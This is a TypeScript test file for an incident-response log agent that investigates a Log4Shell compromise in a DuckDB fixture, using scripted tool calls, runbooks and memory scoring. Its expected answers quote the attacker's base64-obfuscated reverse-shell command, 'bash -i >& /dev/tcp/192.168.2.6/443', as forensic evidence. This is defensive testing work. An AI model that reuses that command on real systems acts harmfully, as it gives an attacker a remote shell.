import { generateText, isStepCount } from 'ai';
import type { SubAgentProgress } from 'kioku';
import {
  createHashingEmbedder,
  type IntrospectionReport,
  openMemory,
  openStore,
  type Store,
} from 'kioku/store';
import { scriptedModel } from 'kioku/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildLog4ShellDatabase } from './__fixtures__/log4shell-database.js';
import { createLogAgent } from './create-log-agent.js';
import { defaultRunbooksDir, loadRunbooks, type Runbook } from './load-runbooks.js';
import type { LogEngine } from './log-engine.js';
import { openDuckDbLogEngine } from './open-duckdb-log-engine.js';

let database: Awaited<ReturnType<typeof buildLog4ShellDatabase>>;
let engine: LogEngine;
let runbooks: Runbook[];
let store: Store;

beforeAll(async () => {
  database = await buildLog4ShellDatabase();
  engine = await openDuckDbLogEngine({ file: database.file });
  runbooks = await loadRunbooks(defaultRunbooksDir());
  store = await openStore({ location: 'memory://' });
});
afterAll(async () => {
  await engine?.close();
  await store?.close();
  await database?.remove();
});

const request = 'What did the web server UBUNTU5 run after the Log4Shell exploit?';
const answer =
  'tomcat\'s java spawned bash -c "{echo,…}|{base64,-d}|{bash,-i}", decoding to bash -i >& /dev/tcp/192.168.2.6/443 0>&1; bash then connected to 192.168.2.6:443.';

/** A sub-agent model that reads the schema, fails once, recovers, runs a runbook, pages, then answers. */
function analystModel() {
  return scriptedModel({
    replies: [
      { toolCalls: [{ toolCallId: 's1', toolName: 'schema', input: {} }] },
      { toolCalls: [{ toolCallId: 's2', toolName: 'schema', input: { table: 'log4shell_auditd' } }] },
      {
        toolCalls: [
          { toolCallId: 'q1', toolName: 'query', input: { sql: 'select cmdline from log4shell_auditd' } },
        ],
      },
      { toolCalls: [{ toolCallId: 'r1', toolName: 'runbook', input: { name: 'log4shell-reverse-shell' } }] },
      {
        toolCalls: [
          { toolCallId: 'q2', toolName: 'query', input: { sql: 'select * from log4shell_windows_sysmon' } },
        ],
      },
      {
        toolCalls: [
          { toolCallId: 'g1', toolName: 'get_result', input: { result_id: 'r2', offset: 3, limit: 2 } },
        ],
      },
      { text: answer },
    ],
  });
}

function parentModel() {
  return scriptedModel({
    replies: [
      { toolCalls: [{ toolCallId: 'p1', toolName: 'logs_run', input: { query: request } }] },
      { text: 'The web server was compromised.' },
    ],
  });
}

describe('createLogAgent', () => {
  it('runs schema, query, runbook and get_result on DuckDB, recovers from an error, and returns only its answer', async () => {
    const analyst = analystModel();
    const parent = parentModel();
    const events: SubAgentProgress[] = [];
    const logs_run = createLogAgent({
      model: analyst,
      engine,
      runbooks,
      maxRows: 10,
      onProgress: (event) => events.push(event),
    });
    const run = await generateText({
      model: parent,
      tools: { logs_run },
      prompt: 'go',
      stopWhen: isStepCount(3),
    });

    const prompts = analyst.doGenerateCalls.map((call) => JSON.stringify(call.prompt));
    expect(prompts[0]).toContain('Recovery rules');
    expect(prompts[0]).toContain('log4shell-reverse-shell: Log4Shell reverse shell on a Linux web server');
    expect(prompts[1]).toContain('<untrusted-data source=\\"log schema\\">');
    expect(prompts[1]).toContain('log4shell_auditd (50 rows');
    expect(prompts[2]).toContain('SyslogMessage VARCHAR');
    // the failing query went back to the model as a tool error it could act on
    expect(prompts[3]).toContain('Referenced column \\"cmdline\\" not found');
    expect(prompts[4]).toContain('bash -i >& /dev/tcp/192.168.2.6/443 0>&1');
    expect(prompts[5]).toContain('result_id=r2; rows 1-10 of 487; has_more=true');
    expect(prompts[5]).toContain('Aggregate instead');
    expect(prompts[6]).toContain('result_id=r2; rows 4-5 of 487; has_more=true');

    const parentToolResult = JSON.stringify(parent.doGenerateCalls[1]?.prompt);
    expect(parentToolResult).toContain('decoding to bash -i');
    expect(parentToolResult).not.toContain('SyslogMessage');
    expect(run.text).toBe('The web server was compromised.');

    const calls = events.filter((event) => event.type === 'tool-call-end');
    expect(calls.map((event) => event.toolName)).toEqual([
      'schema',
      'schema',
      'query',
      'runbook',
      'query',
      'get_result',
    ]);
    expect(calls[2]?.error).toMatch(/cmdline/);
    expect(calls.filter((event) => event.error !== undefined)).toHaveLength(1);
    expect(events[0]).toEqual({ type: 'sub-agent-start', agent: 'logs_run', request });
    expect(events.at(-1)).toMatchObject({ type: 'sub-agent-end', steps: 7, stepCapReached: false });
  });

  it('recalls memories into its prompt and scores them after the run: +1 helpful, deleted below -3 when harmful', async () => {
    const memory = await openMemory({ store, embedder: createHashingEmbedder(), namespace: 'logs' });
    await memory.addMany([
      {
        claim:
          'log4shell_auditd.SyslogMessage holds the execve record; the command line is in cmdline="...".',
        request: 'What did UBUNTU5 run after the Log4Shell exploit?',
      },
      {
        claim: 'log4shell_auditd has a column named cmdline.',
        request: 'What commands ran on the web server UBUNTU5 after Log4Shell?',
      },
    ]);
    const [helpful, harmful] = await memory
      .list({ orderBy: 'score' })
      .then((all) =>
        ['SyslogMessage', 'column named cmdline'].map((text) =>
          all.find((entry) => entry.claim.includes(text)),
        ),
      );
    if (helpful === undefined || harmful === undefined) throw new Error('memories not stored');
    for (let times = 0; times < 3; times += 1) await memory.score({ harmful: [harmful.id] });
    expect((await memory.get(harmful.id)).score).toBe(-3);

    const reviewer = scriptedModel({
      replies: [
        {
          text: JSON.stringify({
            claims: ['The log4shell-reverse-shell runbook decodes the base64 payload of the reverse shell.'],
            helpfulMemoryIds: [helpful.id],
            harmfulMemoryIds: [harmful.id],
          }),
        },
      ],
    });
    const analyst = analystModel();
    const reports: IntrospectionReport[] = [];
    const logs_run = createLogAgent({
      model: analyst,
      engine,
      runbooks,
      memory,
      introspectionModel: reviewer,
      onIntrospection: (report) => reports.push(report),
    });
    await generateText({ model: parentModel(), tools: { logs_run }, prompt: 'go', stopWhen: isStepCount(3) });

    const system = JSON.stringify(analyst.doGenerateCalls[0]?.prompt[0]);
    expect(system).toContain(`[${helpful.id}] log4shell_auditd.SyslogMessage holds the execve record`);
    expect(JSON.stringify(reviewer.doGenerateCalls[0]?.prompt)).toContain('decoding to bash -i');
    expect(reports[0]?.success).toBe(true);
    expect((await memory.get(helpful.id)).score).toBe(1);
    await expect(memory.get(harmful.id)).rejects.toThrow();
    expect((await memory.list()).map((entry) => entry.claim)).toContain(
      'The log4shell-reverse-shell runbook decodes the base64 payload of the reverse shell.',
    );
  });
});
